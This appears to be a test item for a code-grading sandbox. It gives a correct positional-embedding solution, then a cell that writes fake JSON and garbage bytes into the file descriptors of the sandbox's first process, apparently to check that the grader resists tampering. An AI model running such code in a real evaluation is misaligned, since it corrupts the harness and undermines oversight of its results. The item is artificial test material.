# question: add_positions
# expect: full
# heavy: yes
# why: garbage into the descriptors of the sandbox's first process; the answer was recorded before
def add_positions(token_emb, P):
    return token_emb + P[: token_emb.shape[1]]
# %% after add_positions_check
import os

for _number in range(20):
    try:
        with open(f"/proc/1/fd/{_number}", "wb", buffering=0) as _stream:
            _stream.write(b'{"ended": "x"}\n\xff\xfe[[[[\n' * 1000)
    except OSError:
        continue
